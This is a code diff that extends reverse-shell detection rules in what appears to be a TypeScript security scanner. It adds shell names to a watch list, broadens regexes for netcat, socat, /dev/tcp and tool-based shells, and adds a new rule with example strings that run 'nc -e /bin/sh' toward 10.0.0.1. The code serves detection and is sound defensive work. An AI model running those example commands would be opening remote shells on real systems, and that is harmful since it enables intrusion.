@@ -20,6 +20,10 @@ const EXEC_WORDS = [
   "zsh",
   "dash",
   "ksh",
+  "csh",
+  "tcsh",
+  "pdksh",
+  "bsh",
   "cmd",
   "powershell",
   "pwsh",
@@ -124,7 +128,7 @@ export const REVERSE_SHELL_RULES: readonly Rule[] = [
     ],
     regexp: new RegExp(
       String
-        .raw`(?<![\w.-])(?:ba|z|da|k|a|tc|c)?sh(?: -[il]| [012]?[<>]|>| ?(?=\|))[^\r\n;]{0,60}?\| ?${NET_CLIENT} [^\r\n]{1,100}`,
+        .raw`(?<![\w.-])(?:ba|z|da|pdk|k|a|b|tc|c)?sh(?: -[il]| [012]?[<>]|>| ?(?=\|))[^\r\n;]{0,60}?\| ?${NET_CLIENT} [^\r\n]{1,100}`,
       "i",
     ),
     maxLength: 220,
@@ -209,7 +213,7 @@ export const REVERSE_SHELL_RULES: readonly Rule[] = [
     directions: BOTH,
     anchors: ["socat "],
     regexp:
-      /\bsocat (?=[^\r\n]{0,160}?(?:tcp|udp|openssl|ssl|sctp|vsock)[\w-]{0,12}:)[^\r\n]{0,160}?\b(?:exec|system):\\{0,2}["'`]?[\w\/.]{0,20}?(?:sh|cmd|powershell|pwsh|python[23]?|login)\b[^\r\n]{0,60}/i,
+      /\bsocat (?=[^\r\n]{0,160}?(?:tcp|udp|openssl|ssl|sctp|vsock)[\w-]{0,12}:)[^\r\n]{0,160}?\b(?:exec|system):\\{0,2}["'`]?[\w\/. ]{0,24}?(?:sh|cmd|powershell|pwsh|python[23]?|login)\b[^\r\n]{0,60}/i,
     maxLength: 300,
     description: "A socat that joins a socket to a shell.",
     source: `${SOURCE}; socat(1) EXEC, SYSTEM; GTFOBins socat`,
@@ -240,7 +244,7 @@ export const REVERSE_SHELL_RULES: readonly Rule[] = [
     ],
     regexp: new RegExp(
       String
-        .raw`\bztcp (?:-l )?${HOST}(?: \d{1,5})?|\/inet4?\/(?:tcp|udp)\/\d{1,5}\/${HOST}\/\d{1,5}|\bxterm -display ${HOST}|telnet:\/\/${HOST}(?=[^\r\n]{0,60}\| ?(?:ba|z)?sh\b)`,
+        .raw`\bztcp (?:-l )?${HOST}(?: \d{1,5})?|\/inet4?\/(?:tcp|udp)\/\d{1,5}\/${HOST}\/(?:\d{1,5}|[$<{%]\w{1,20})|\bxterm -display ${HOST}|telnet:\/\/${HOST}(?=[^\r\n]{0,60}\| ?\S{0,20}sh\b)`,
     ),
     maxLength: 200,
     description: "A network endpoint of zsh, gawk, xterm or curl used for a shell.",
@@ -278,6 +282,7 @@ export const REVERSE_SHELL_RULES: readonly Rule[] = [
       "invoke-shellcode",
       "powercat -",
       "php-reverse-shell",
+      "streamconnector",
       "rcat connect",
       "rcat -",
       "rcat listen",
@@ -287,7 +292,7 @@ export const REVERSE_SHELL_RULES: readonly Rule[] = [
       "uname -a; w; id;",
     ],
     regexp:
-      /\bInvoke-(?:ConPtyShell|PowerShellTcp(?:OneLine)?|Shellcode) [^\r\n]{0,40}?\d{1,5}|\bpowercat -[^\r\n]{3,80}|\brcat (?:connect|listen|-\w)[^\r\n]{1,60}|\brustcat (?:connect|listen|-\w)[^\r\n]{1,60}|\bphp-reverse-shell\.php|\bmsfvenom -[^\r\n]{0,80}?(?:LHOST=|reverse_|bind_)[^\r\n]{0,60}|\b(?:windows|linux|php|python|java|android|osx)\/(?:x\d\d\/)?meterpreter[\w\/]{1,40}|uname -a; w; id; [^\r\n]{0,30}?sh\b/i,
+      /\bInvoke-(?:ConPtyShell|PowerShellTcp(?:OneLine)?|Shellcode) [^\r\n]{0,40}?\d{1,5}|\bpowercat -[^\r\n]{3,80}|\brcat (?:connect|listen|-\w)[^\r\n]{1,60}|\brustcat (?:connect|listen|-\w)[^\r\n]{1,60}|\bphp-reverse-shell\.php|\bclass StreamConnector extends Thread|\bmsfvenom -[^\r\n]{0,80}?(?:LHOST=|reverse_|bind_)[^\r\n]{0,60}|\b(?:windows|linux|php|python|java|android|osx)\/(?:x\d\d\/)?meterpreter[\w\/]{1,40}|uname -a; w; id; [^\r\n]{0,30}?sh\b/i,
     maxLength: 220,
     description: "A tool made for reverse shells, with its arguments.",
     source: `${SOURCE}; Nishang, powercat, ConPtyShell, Metasploit msfvenom, rustcat documentation`,
@@ -299,15 +304,36 @@ export const REVERSE_SHELL_RULES: readonly Rule[] = [
     ],
     nonExamples: ["meterpreter is a payload", "bearcat sightings"],
   },
+  {
+    id: "netcat_exec_arguments",
+    pattern: "reverse_shell",
+    type: "INJECTION",
+    severity: "high",
+    directions: BOTH,
+    anchors: [`"-e", "`, `"-e","`, `'-e', '`, `'-e','`],
+    regexp:
+      /["'](?:[\w\/.]{0,20}\/)?nc(?:at)?["'],[^\r\n\])]{0,80}?(?:"-e", ?"|'-e', ?')(?:\/[\w\/]{0,20})?(?:\w{0,3}sh|cmd\.exe|powershell)["']/,
+    maxLength: 180,
+    description: "A netcat that runs a shell, as a list of arguments.",
+    source: `${SOURCE}; Python subprocess, Node child_process argument lists`,
+    examples: [
+      'subprocess.Popen(["nc","-e","/bin/sh","10.0.0.1","443"])',
+      "spawn('nc', ['10.0.0.1', '443', '-e', 'bash'])",
+    ],
+    nonExamples: ['["nc", "-z", "host", "80"]'],
+  },
 ];
 
-/** Port checks against the own machine are everyday; a duplicated descriptor is a shell. */
+/** A shell that is started on the connection, or reads its lines. */
+const JOINED_SHELL_REGEXP =
+  /\b\w{0,4}sh\b\s{0,3}(?:-[il]\b|\d{0,3}[<>]&|0<)|0>&\s?1|<&\s?1\b|while read|\bexec\b[^\n]{0,20}sh\b/;
+
+/** Port checks against the own machine are everyday; a shell on the descriptor is not. */
 function gradeDevTcp(match: RuleMatch): Verdict {
-  const around = `${match.before} ${match.after}`;
   if (/\/(?:host|hostname)\/port\b/i.test(match.text)) return "low";
-  const joined = /[0-9]?>&|<&|<>|&>|\bexec\b|\bsh\b|ksh|bash\s+-i/.test(around);
+  const around = `${match.before} ${match.after}`;
   if (/\/(?:localhost|127\.0\.0\.1|\$\{?\w*\}?)\/|\/\$/.test(match.text)) {
-    return joined && !/\(?\s*(?:echo|:)?\s*[<>]\s*$/.test(match.before) ? "high" : "low";
+    return JOINED_SHELL_REGEXP.test(around) ? "high" : "low";
   }
-  return joined ? "high" : "medium";
+  return /[0-9]?>&|<&|<>|&>|\bexec\b|\bsh\b|ksh|bash\s+-i/.test(around) ? "high" : "medium";
 }
